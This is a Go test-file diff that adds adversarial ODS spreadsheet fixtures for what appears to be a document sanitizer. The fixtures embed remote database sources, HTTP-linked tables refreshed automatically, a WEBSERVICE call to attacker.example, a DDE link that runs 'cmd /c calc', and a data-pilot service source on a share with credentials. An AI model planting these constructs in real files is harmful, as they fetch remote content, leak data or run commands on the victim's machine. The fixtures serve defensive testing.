@@ -140,6 +140,21 @@ func TestReadersODF(t *testing.T) {
 		{"odf/link-schemes", "a.odt", "", odt("", `<text:p><text:a xlink:href="vnd.libreoffice.command:.uno:Open">a</text:a><text:a xlink:href="macro:///Standard.Module1.Main">b</text:a><text:a xlink:href="%66ile:///C:/x.exe">c</text:a><text:a xlink:href=" file:///C:/x.exe">d</text:a><text:a xlink:href="slot:5500">e</text:a><text:a xlink:href=".uno:Quit">f</text:a></text:p>`), "safe", ""},
 		{"odf/macro-in-styles-header", "a.odt", "", odt("", `<text:p>x</text:p>`, zipEntry{"styles.xml", `<?xml version="1.0"?><office:document-styles ` + odtNS + `><office:master-styles><style:master-page xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" style:name="Standard"><style:header><text:p><text:execute-macro text:name="Standard.Module1.Main">x</text:execute-macro><text:a xlink:href="macro:///Standard.Module1.Main">m</text:a></text:p><text:section text:name="s"><text:section-source xlink:href="http://attacker.example/x.odt"/></text:section></style:header></style:master-page></office:master-styles></office:document-styles>`}), "safe", ""},
 	}
+	spreadsheet := func(inTable, afterTable string) []byte {
+		return mkzip(t,
+			zipEntry{"mimetype", "application/vnd.oasis.opendocument.spreadsheet"},
+			zipEntry{"META-INF/manifest.xml", `<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`},
+			zipEntry{"content.xml", `<?xml version="1.0"?><office:document-content ` + odtNS + ` xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" office:version="1.2"><office:body><office:spreadsheet><table:table table:name="S">` + inTable + `<table:table-row><table:table-cell office:value-type="float" office:value="1"/></table:table-row></table:table>` + afterTable + `</office:spreadsheet></office:body></office:document-content>`})
+	}
+	cases = append(cases,
+		advCase{"ods/database-range-sources", "a.ods", "", spreadsheet("", `<table:database-ranges><table:database-range table:name="x" table:target-range-address="S.A1:S.B2" table:refresh-delay="PT1S"><table:database-source-sql table:database-name="sdbc:mysql:jdbc:attacker.example:3306/db" table:sql-statement="SELECT 1"/></table:database-range><table:database-range table:name="y" table:target-range-address="S.C1:S.D2"><table:database-source-table table:database-name="\\attacker.example\s\x.odb" table:database-table-name="t"/></table:database-range></table:database-ranges>`), "safe", ""},
+		advCase{"ods/linked-table-and-range", "a.ods", "", spreadsheet(`<table:table-source xlink:href="http://attacker.example/x.ods" table:mode="copy-all" table:table-name="S" table:refresh-delay="PT1S"/><table:table-row><table:table-cell><table:cell-range-source table:name="r" xlink:href="http://attacker.example/y.ods" table:filter-name="calc8" table:last-column-spanned="1" table:last-row-spanned="1" table:refresh-delay="PT1S"/></table:table-cell></table:table-row>`, ""), "safe", ""},
+		advCase{"ods/dde-link-and-named-expression", "a.ods", "", spreadsheet("", `<table:named-expressions><table:named-expression table:name="x" table:expression="of:=WEBSERVICE(&quot;http://attacker.example/&quot;)" table:base-cell-address="$S.$A$1"/></table:named-expressions><table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="A0" office:automatic-update="true"/></table:dde-link></table:dde-links>`), "safe", ""},
+		// A data pilot table whose source is a UNO service named in the file, with a
+		// source on a share and credentials: LibreOffice instantiates the service to
+		// fill the table.
+		advCase{"ods/data-pilot-source-service", "a.ods", "", spreadsheet("", `<table:data-pilot-tables><table:data-pilot-table table:name="p" table:target-range-address="S.A5:S.B6"><table:source-service table:name="com.sun.star.x" table:source-name="\\attacker.example\s" table:object-name="o" table:user-name="u" table:password="p"/></table:data-pilot-table></table:data-pilot-tables>`), "safe", ""},
+	)
 	runCases(t, cases)
 }
 
